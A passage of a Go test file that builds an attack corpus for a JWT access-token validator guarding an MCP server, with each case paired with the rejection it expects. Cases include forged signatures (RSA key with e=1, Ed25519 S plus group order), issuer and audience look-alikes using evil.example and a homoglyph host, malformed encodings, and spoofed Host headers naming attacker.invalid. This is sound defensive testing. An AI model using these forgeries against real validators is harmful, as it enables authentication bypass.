	add("RSA key declaring none", "", is.TokenWith(validatetest.TokenOptions{Key: c.rsaNoneKid, Alg: "RS256"}, nil), unusable...)
	add("RSA key with e=1, signature = padded hash", "", e1Token(c), audit.ReasonBadSignature, audit.ReasonUnknownKey)
	return out
}

// claimAttacks: RFC 9068 §4 and RFC 7519 §4.1, and the audience rule of
// RFC 8707 and MCP.
func (c *corpus) claimAttacks() []attack {
	is := c.is
	var out []attack
	add := func(name, via string, claims map[string]any, want ...error) {
		out = append(out, attack{class: "claims", name: name, via: via, tok: is.Token(claims), want: want})
	}
	now := hardNow
	// Time: the leeway is 30 s.
	add("expired an hour ago", "", map[string]any{"exp": now.Add(-time.Hour).Unix()}, audit.ReasonExpired)
	add("expired beyond the leeway", "", map[string]any{"exp": now.Add(-31 * time.Second).Unix()}, audit.ReasonExpired)
	add("expired at the leeway boundary", "", map[string]any{"exp": now.Add(-30 * time.Second).Unix()}, audit.ReasonExpired)
	add("exp 0", "", map[string]any{"exp": 0}, audit.ReasonExpired)
	add("exp negative", "", map[string]any{"exp": -1}, audit.ReasonExpired, audit.ReasonBadClaims)
	add("exp before year 1", "", map[string]any{"exp": -62135596801}, audit.ReasonBadClaims, audit.ReasonExpired)
	add("exp after year 9999", "", map[string]any{"exp": 253402300800}, audit.ReasonBadClaims)
	add("exp 1e300", "", map[string]any{"exp": 1e300}, audit.ReasonBadClaims)
	add("exp -1e300", "", map[string]any{"exp": -1e300}, audit.ReasonBadClaims)
	add("nbf beyond the leeway", "", map[string]any{"nbf": now.Add(31 * time.Second).Unix()}, audit.ReasonNotYetValid)
	add("nbf in a year", "", map[string]any{"nbf": now.AddDate(1, 0, 0).Unix(), "exp": now.AddDate(1, 0, 1).Unix()}, audit.ReasonNotYetValid)
	add("iat beyond the leeway", "", map[string]any{"iat": now.Add(31 * time.Second).Unix()}, audit.ReasonNotYetValid)
	add("iat in a year", "", map[string]any{"iat": now.AddDate(1, 0, 0).Unix()}, audit.ReasonNotYetValid)
	add("iat in a year, strict", "strict", map[string]any{"iat": now.AddDate(1, 0, 0).Unix()}, audit.ReasonNotYetValid)

	// Missing claims.
	add("missing exp", "", map[string]any{"exp": nil}, audit.ReasonBadClaims)
	add("missing iss", "", map[string]any{"iss": nil}, audit.ReasonBadClaims)
	add("missing aud", "", map[string]any{"aud": nil}, audit.ReasonBadClaims)
	add("empty aud array", "", map[string]any{"aud": []string{}}, audit.ReasonBadClaims, audit.ReasonBadAudience)
	add("all registered claims missing", "", map[string]any{"exp": nil, "iss": nil, "aud": nil, "iat": nil, "sub": nil, "jti": nil, "client_id": nil}, audit.ReasonBadClaims)
	for _, claim := range []string{"sub", "client_id", "iat", "jti"} {
		add("strict: missing "+claim, "strict", map[string]any{claim: nil}, audit.ReasonBadClaims)
	}

	// Wrongly typed claims.
	for _, tc := range []struct {
		claim string
		v     any
	}{
		{"exp", "9999999999"}, {"exp", "1.8e9"}, {"exp", true}, {"exp", []int{1}}, {"exp", map[string]any{"t": 1}},
		{"nbf", "0"}, {"nbf", false}, {"iat", "0"}, {"iat", []any{}},
		{"aud", 42}, {"aud", []any{1}}, {"aud", []any{hardResource, 1}}, {"aud", map[string]any{"uri": hardResource}}, {"aud", true},
		{"iss", 1}, {"iss", []string{"ISSUER"}}, {"iss", map[string]any{"a": 1}}, {"iss", true},
		{"scope", []string{"a"}}, {"scope", 7}, {"scp", 7}, {"scp", map[string]any{"a": 1}},
		{"sub", 12}, {"client_id", []string{"c"}}, {"jti", 3},
	} {
		v := tc.v
		if l, ok := v.([]string); ok && len(l) == 1 && l[0] == "ISSUER" {
			v = []string{is.URL}
		}
		add(tc.claim+" as "+jsonString(v), "", map[string]any{tc.claim: v}, audit.ReasonBadClaims)
	}

	// Issuer look-alikes: iss must equal the issuer byte for byte.
	u := must(url.Parse(is.URL))
	for _, iss := range []string{
		is.URL + "/", strings.ToUpper(is.URL), "HTTPS://" + u.Host, "http://" + u.Host, "https://localhost:" + u.Port(),
		"https://127.0.0.1.:" + u.Port(), is.URL + "/tenant", is.URL + "?", is.URL + "#", " " + is.URL, is.URL + " ",
		is.URL + "%2F", "https://" + u.Host + ":443", "https://evil.example/" + u.Host, "",
	} {
		add("issuer "+short(iss), "", map[string]any{"iss": iss}, audit.ReasonBadIssuer, audit.ReasonBadClaims)
	}

	// Audience look-alikes: aud must contain this resource.
	for _, aud := range []any{
		"https://mcp.example.com", "https://mcp.example.com/", "https://mcp.example.com/other", "https://mcp.example.com/mc",
		"https://mcp.example.com/mcp2", "https://mcp.example.com/mcp/x", "https://mcp.example.com/mcp/..", "https://mcp.example.com/x/../mcp",
		"https://mcp.example.com//mcp", "https://mcp.example.com/%6Dcp", "https://mcp.example.com/MCP", "http://mcp.example.com/mcp",
		"https://mcp.example.com:8443/mcp", "https://mcp.example.com.evil.example/mcp", "https://evil-mcp.example.com/mcp",
		"https://mcp.example.com@evil.example/mcp", "https://evil@mcp.example.com/mcp", "https://mcp.example.com/mcp?x=1",
		"https://mcp.example.com/mcp#f", " https://mcp.example.com/mcp", "https://mcp.example.com/mcp ", "mcp.example.com/mcp",
		"//mcp.example.com/mcp", "https://mcp.example.co/mcp", "https://mcp.exаmple.com/mcp", "*", "",
		"https://other.example/mcp https://mcp.example.com/mcp",
		[]string{"https://a.example", "https://b.example/mcp"}, []string{""}, []string{"https://mcp.example.com"},
	} {
		add("audience "+short(jsonString(aud)), "", map[string]any{"aud": aud}, audit.ReasonBadAudience, audit.ReasonBadClaims)
	}

	// Wrong "typ" (RFC 9068 §4): ID tokens, DPoP proofs, logout and
	// security-event tokens, and malformed values.
	for _, typ := range []any{"dpop+jwt", "application/dpop+jwt", "DPOP+JWT", "id_token+jwt", "logout+jwt", "secevent+jwt",
		"jwt+at", "at+jwt+x", "at+jwt ", "", "JOSE", "JWS", "application/json"} {
		add("typ "+jsonString(typ), "", nil, audit.ReasonBadTokenType)
		out[len(out)-1].tok = is.TokenWith(validatetest.TokenOptions{Header: map[string]any{"typ": typ}}, nil)
	}
	for _, typ := range []any{1, true, []string{"at+jwt"}} {
		add("typ of type "+jsonString(typ), "", nil, audit.ReasonBadTokenType, audit.ReasonMalformed)
		out[len(out)-1].tok = is.TokenWith(validatetest.TokenOptions{Header: map[string]any{"typ": typ}}, nil)
	}
	for _, typ := range []any{"JWT", "application/jwt", nil} {
		add("strict: typ "+jsonString(typ), "strict", nil, audit.ReasonBadTokenType)
		out[len(out)-1].tok = is.TokenWith(validatetest.TokenOptions{Header: map[string]any{"typ": typ}}, nil)
	}
	return out
}

// malformedInput: what is not a JWS compact serialisation at all.
func (c *corpus) malformedInput() []attack {
	is := c.is
	var out []attack
	add := func(name, via, tok string, want ...error) {
		out = append(out, attack{class: "malformed", name: name, via: via, tok: tok, want: want})
	}
	mal := []error{audit.ReasonMalformed}
	good := is.Token(nil)
	h, p, s := split(c.t, good)
	hb := must(base64.RawURLEncoding.DecodeString(h))
	pb := must(base64.RawURLEncoding.DecodeString(p))

	// Segments.
	for _, tok := range []string{"a", "a.b", "a.b.c.d", "a.b.c.d.e.f", ".", "..", "...", "....", h, h + "." + p, h + "." + p + "." + s + ".", h + "." + p + "." + s + "." + s,
		"." + p + "." + s, h + ".." + s, h + "." + p + ".." + s} {
		add("segments "+short(segmentShape(tok)), "", tok, audit.ReasonMalformed, audit.ReasonBadSignature)
	}
	// JWE (RFC 7516 §7.1): five segments, or an "enc" header.
	jweHeader := b64url([]byte(`{"alg":"RSA-OAEP-256","enc":"A256GCM","kid":"` + c.rsKid + `"}`))
	add("JWE, five segments", "", jweHeader+".ZW5jcnlwdGVka2V5.aXY.Y2lwaGVydGV4dA.dGFn", mal...)
	add("JWE header in three segments", "", jweHeader+"."+p+"."+s, audit.ReasonMalformed, audit.ReasonBadAlgorithm)
	add("JWS header with enc", "", is.TokenWith(validatetest.TokenOptions{Header: map[string]any{"enc": "A256GCM"}}, nil), audit.ReasonMalformed, audit.ReasonBadAlgorithm)
	add("JWE dir with empty key", "", b64url([]byte(`{"alg":"dir","enc":"A128CBC-HS256"}`))+"..aXY.Y2lwaGVydGV4dA.dGFn", mal...)

	// base64url (RFC 7515 §2): no padding, no standard alphabet, no white
	// space, no non-zero trailing bits.
	// "=" inside the token is not even a b64token (RFC 6750 §2.1): 400.
	add("header padded", "", padded(h)+"."+p+"."+s, mal...)
	out[len(out)-1].refuse = refuseRequest
	add("payload padded", "", h+"."+padded(p)+"."+s, audit.ReasonMalformed, audit.ReasonBadSignature)
	out[len(out)-1].refuse = refuseRequest
	add("header in the standard alphabet", "", base64.RawStdEncoding.EncodeToString(append(hb, []byte(" \xfb\xff")...))+"."+p+"."+s, mal...)
	add("payload in the standard alphabet", "", h+"."+base64.RawStdEncoding.EncodeToString(append(pb, []byte(" \xfb\xff")...))+"."+s, audit.ReasonMalformed, audit.ReasonBadSignature)
	add("header with non-zero trailing bits", "", trailingBits(h)+"."+p+"."+s, mal...)
	add("payload with non-zero trailing bits", "", h+"."+trailingBits(p)+"."+s, audit.ReasonMalformed, audit.ReasonBadSignature)
	add("header with an impossible length", "", h+"A."+p+"."+s, audit.ReasonMalformed)
	add("header with a percent-encoding", "", strings.Replace(h, "J", "%4A", 1)+"."+p+"."+s, mal...)
	out[len(out)-1].refuse = refuseRequest

	// Not JSON, or JSON that is not an object.
	for _, hdr := range []string{"not json", "", "[1]", `"alg"`, "1", "null", "true", `{"alg":"RS256"`, `{"alg":"RS256"}x`,
		`{"alg":"RS256"}{}`, "\ufeff{\"alg\":\"RS256\"}", `{'alg':'RS256'}`, `{"alg":"RS256",}`, `{alg:"RS256"}`} {
		add("header "+short(hdr), "", b64url([]byte(hdr))+"."+p+"."+s, audit.ReasonMalformed, audit.ReasonBadAlgorithm)
	}
	for _, pl := range []string{"not json", "", "[1,2]", `"claims"`, "1", "null", "true", `{"iss":`, `{"exp":1}x`, `{}{}`, "\ufeff{}", `{'iss':1}`} {
		tok := is.TokenWith(validatetest.TokenOptions{Payload: []byte(pl)}, nil)
		if pl == "" {
			add("payload empty", "", tok, audit.ReasonMalformed, audit.ReasonBadClaims)
			continue
		}
		add("payload "+short(pl), "", tok, audit.ReasonMalformed, audit.ReasonBadClaims)
	}

	// Deep nesting and size.
	deep := strings.Repeat(`{"a":`, 1500) + "1" + strings.Repeat("}", 1500)
	add("header nested 1500 deep", "", b64url([]byte(`{"alg":"RS256","kid":"`+c.rsKid+`","x":`+deep+`}`))+"."+p+"."+s, audit.ReasonMalformed, audit.ReasonBadSignature)
	add("payload nested 1500 deep, attacker key", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attRSA, Key: c.rsKid, Payload: c.ownClaims(map[string]any{"iss": is.URL, "x": json.RawMessage(deep)})}, nil),
		audit.ReasonMalformed, audit.ReasonBadClaims, audit.ReasonBadSignature)
	add("payload nested arrays 5000 deep, no claims", "", is.TokenWith(validatetest.TokenOptions{Payload: []byte(strings.Repeat("[", 5000) + strings.Repeat("]", 5000))}, nil), audit.ReasonMalformed)
	add("header of 10 KiB", "", is.TokenWith(validatetest.TokenOptions{Signer: c.attRSA, Key: c.rsKid, Header: map[string]any{"x": strings.Repeat("h", 10<<10)}}, nil), audit.ReasonBadSignature)
	add("oversized token (small validator)", "small", is.Token(map[string]any{"x": strings.Repeat("p", 4096)}), audit.ReasonMalformed)
	add("token just over the limit (small)", "small", justOver(c.t, is, 2048), audit.ReasonMalformed)

	// Control characters and non-ASCII inside the token: the header is
	// malformed before any decoding (400), and Verify refuses them too.
	for _, cc := range []struct{ name, tok string }{
		{"NUL", good[:10] + "\x00" + good[10:]}, {"SOH", good[:10] + "\x01" + good[10:]}, {"DEL", good[:10] + "\x7f" + good[10:]},
		{"TAB", good[:10] + "\t" + good[10:]}, {"CR", good[:10] + "\r" + good[10:]}, {"LF", good[:10] + "\n" + good[10:]},
		{"CRLF at the end", good + "\r\n"}, {"space", good[:10] + " " + good[10:]}, {"non-ASCII", good[:10] + "é" + good[10:]},
		{"invalid UTF-8", good[:10] + "\xff" + good[10:]}, {"quote", good[:10] + `"` + good[10:]}, {"comma", good[:10] + "," + good[10:]},
	} {
		out = append(out, attack{class: "malformed", name: "control " + cc.name, tok: cc.tok, want: mal, refuse: refuseRequest})
	}
	// The same bytes escaped inside the JSON: a well-formed header whose
	// kid holds them.
	add("kid with an escaped NUL and CRLF", "", is.TokenWith(validatetest.TokenOptions{Key: c.rsKid, Header: map[string]any{"kid": "a\u0000b\r\nc"}}, nil), audit.ReasonUnknownKey, audit.ReasonMalformed)
	return out
}

// requestShapes: where and how the token travels (RFC 6750 §2, MCP
// authorization: the Authorization header only).
func (c *corpus) requestShapes() []attack {
	good := c.is.Token(nil)
	var out []attack
	add := func(name string, r hardRequest, want refusal, secrets ...string) {
		out = append(out, attack{class: "request", name: name, tok: good, req: &r, refuse: want, secrets: secrets})
	}
	hdr := func(vs ...string) hardRequest {
		var r hardRequest
		for _, v := range vs {
			r.headers = append(r.headers, [2]string{"Authorization", v})
		}
		return r
	}
	add("no Authorization header", hardRequest{}, refuseNoCreds)
	add("no header, POST", hardRequest{method: http.MethodPost, body: `{"jsonrpc":"2.0","id":1,"method":"tools/list"}`, ctype: "application/json"}, refuseNoCreds)
	for _, scheme := range []string{"Basic", "Digest", "DPoP", "Token", "MAC", "Negotiate", "Bearer2", "Bearerx", "Beare", "JWT", "OAuth"} {
		add("scheme "+scheme, hdr(scheme+" "+good), refuseNoCreds)
	}
	add("Basic credentials", hdr("Basic "+base64.StdEncoding.EncodeToString([]byte("user:"+good))), refuseNoCreds)
	add("empty bearer", hdr("Bearer"), refuseRequest)
	add("bearer and spaces", hdr("Bearer    "), refuseRequest)
	add("empty header", hdr(""), refuseRequest)
	add("only spaces", hdr("   "), refuseRequest)
	add("scheme and token joined by a tab", hdr("Bearer\t"+good), refuseRequest)
	add("scheme and token joined by a comma", hdr("Bearer,"+good), refuseRequest)
	add("quoted token", hdr(`Bearer "`+good+`"`), refuseRequest)
	add("token as auth-param", hdr(`Bearer access_token="`+good+`"`), refuseRequest)
	add("two tokens in one header", hdr("Bearer "+good+", Bearer "+good), refuseRequest)
	add("two tokens after one scheme", hdr("Bearer "+good+" "+good), refuseRequest)
	add("two Authorization headers, same token", hdr("Bearer "+good, "Bearer "+good), refuseRequest)
	add("two Authorization headers, Basic and Bearer", hdr("Basic dXNlcjpwYXNz", "Bearer "+good), refuseRequest)
	add("two Authorization headers, garbage first", hdr("Bearer x", "Bearer "+good), refuseRequest)
	add("two Authorization headers, one empty", hdr("", "Bearer "+good), refuseRequest)
	add("Authorization header of 1 MiB", hdr("Bearer "+strings.Repeat("a", 1<<20)), refuseRequest)
	add("Authorization header just over the limit", hdr("Bearer "+strings.Repeat("a", 16<<10+len("Bearer "))), refuseRequest)
	add("token in the query string", hardRequest{target: "/mcp?access_token=" + good}, refuseRequest)
	add("token in the query string and the header", hardRequest{target: "/mcp?x=1&access_token=" + good, headers: hdr("Bearer " + good).headers}, refuseRequest)
	add("empty access_token in the query", hardRequest{target: "/mcp?access_token=", headers: hdr("Bearer " + good).headers}, refuseRequest)
	add("token in the form body", hardRequest{method: http.MethodPost, body: "access_token=" + good, ctype: "application/x-www-form-urlencoded"}, refuseNoCreds)
	add("token in the form body, multipart", hardRequest{method: http.MethodPost,
		body:  "--b\r\nContent-Disposition: form-data; name=\"access_token\"\r\n\r\n" + good + "\r\n--b--\r\n",
		ctype: "multipart/form-data; boundary=b"}, refuseNoCreds)
	add("token in a cookie", hardRequest{headers: [][2]string{{"Cookie", "access_token=" + good}}}, refuseNoCreds)
	add("token in a custom header", hardRequest{headers: [][2]string{{"X-Access-Token", good}}}, refuseNoCreds)
	add("token in Proxy-Authorization", hardRequest{headers: [][2]string{{"Proxy-Authorization", "Bearer " + good}}}, refuseNoCreds)
	// The challenge names the configured metadata URL whatever the request
	// says about the host (checkRefusal compares resource_metadata).
	add("spoofed Host", hardRequest{host: "attacker.invalid"}, refuseNoCreds)
	add("spoofed Host with a bad token", hardRequest{host: "attacker.invalid", headers: hdr("Bearer x.y.z").headers}, refuseToken)
	add("spoofed X-Forwarded headers", hardRequest{headers: [][2]string{{"X-Forwarded-Host", "attacker.invalid"},
		{"X-Forwarded-Proto", "http"}, {"Forwarded", "host=attacker.invalid;proto=http"}}}, refuseNoCreds)
	return out
}

// jsonString renders v as JSON, for case names.
func jsonString(v any) string {
	b, err := json.Marshal(v)
	if err != nil {
		return "?"
	}
	return string(b)
}

// short makes a case name out of attacker text: printable and at most 48
// bytes.
func short(s string) string {
	s = strings.Map(func(r rune) rune {
		if r < 0x20 || r == 0x7f || r == '/' {
			return '·'
		}
		return r
	}, s)
	if s == "" {
		return `""`
	}
	if len(s) > 48 {
		return s[:48] + "…"
	}
	return s
}

// segmentShape names a token by the length of its segments.
func segmentShape(tok string) string {
	parts := strings.Split(tok, ".")
	var b strings.Builder
	for i, p := range parts {
		if i > 0 {
			b.WriteByte('.')
		}
		switch {
		case p == "":
			b.WriteString("∅")
		case len(p) <= 3:
			b.WriteString(p)
		default:
			b.WriteString("x")
		}
	}
	return b.String()
}

func replaceSig(t testing.TB, tok, sig string) string {
	h, p, _ := split(t, tok)
	return h + "." + p + "." + sig
}

// flipLast changes the last base64url character of s to another one that
// keeps the trailing bits zero.
func flipLast(s string) string {
	last := s[len(s)-1]
	repl := byte('A')
	if last == 'A' {
		repl = 'Q'
	}
	return s[:len(s)-1] + string(repl)
}

// toStd re-encodes s in the standard base64 alphabet, forcing at least one
// character outside the URL-safe one.
func toStd(s string) string {
	out := strings.NewReplacer("-", "+", "_", "/").Replace(s)
	if out == s {
		out = "+" + out[1:]
	}
	return out
}

func padded(s string) string {
	if n := len(s) % 4; n != 0 {
		return s + strings.Repeat("=", 4-n)
	}
	return s + "===="
}

// trailingBits re-encodes s's last character with non-zero unused bits, a
// second encoding of the same bytes that strict decoding refuses.
func trailingBits(s string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
	var unused int
	switch len(s) % 4 {
	case 2:
		unused = 4
	case 3:
		unused = 2
	default:
		return s + "A" // no unused bits to set: make the length impossible instead
	}
	i := strings.IndexByte(alphabet, s[len(s)-1])
	return s[:len(s)-1] + string(alphabet[i|1<<unused-1])
}

// justOver mints a valid token one or two bytes longer than n (n above the
// default token's size), by padding the jti claim.
func justOver(t testing.TB, is *validatetest.Issuer, n int) string {
	t.Helper()
	for pad := 0; pad < n; pad++ {
		if tok := is.Token(map[string]any{"jti": strings.Repeat("j", pad)}); len(tok) > n {
			require.LessOrEqual(t, len(tok), n+2)
			return tok
		}
	}
	require.Failf(t, "no token long enough", "cannot mint a token over %d bytes", n)
	return ""
}

// addL returns an Ed25519 signature whose S has the group order L added:
// the same S modulo L, a second encoding RFC 8032 §5.1.7 refuses.
func addL(sig []byte) []byte {
	l, _ := new(big.Int).SetString("7237005577332262213973186563042994240857116359379907606001950938285454250989", 10)
	le := func(b []byte) *big.Int {
		r := make([]byte, len(b))
		for i := range b {
			r[len(b)-1-i] = b[i]
		}
		return new(big.Int).SetBytes(r)
	}
	sPlusL := new(big.Int).Add(le(sig[32:]), l).FillBytes(make([]byte, 32))
	out := append([]byte{}, sig[:32]...)
	for i := range sPlusL {
		out = append(out, sPlusL[31-i])
	}
	return out
}

// e1Token builds a token for the published key with e = 1: its
// "signature" is the PKCS #1 v1.5 encoded message itself (RFC 8017 §9.2).
func e1Token(c *corpus) string {
	header := []byte(`{"alg":"RS256","kid":"` + c.e1Kid + `","typ":"at+jwt"}`)
	input := b64url(header) + "." + b64url(c.ownClaims(map[string]any{"iss": c.is.URL}))
	sum := sha256.Sum256([]byte(input))
	digestInfo := []byte{0x30, 0x31, 0x30, 0x0d, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01, 0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20}
	k := (c.ownRSA.N.BitLen() + 7) / 8
	em := make([]byte, k)
	em[1] = 1
	t := append(digestInfo, sum[:]...)
	for i := 2; i < k-len(t)-1; i++ {
		em[i] = 0xff
	}
	copy(em[k-len(t):], t)
	return input + "." + b64url(em)
}

// publicJWKMap is the public JWK of an RSA key, for an embedded "jwk".
func publicJWKMap(pub crypto.PublicKey) map[string]any {
	k := pub.(*rsa.PublicKey)
	return map[string]any{"kty": "RSA", "n": b64url(k.N.Bytes()), "e": b64url(big.NewInt(int64(k.E)).Bytes())}
}

// selfSigned returns a DER certificate for k, signed by k, claiming to be
// the issuer.
func selfSigned(k *rsa.PrivateKey) []byte {
	tmpl := &x509.Certificate{
		SerialNumber: big.NewInt(1),
		Subject:      pkix.Name{CommonName: "127.0.0.1"},
		NotBefore:    hardNow.Add(-time.Hour),
		NotAfter:     hardNow.Add(time.Hour),
	}
	return must(x509.CreateCertificate(rand.Reader, tmpl, tmpl, k.Public(), k))
}
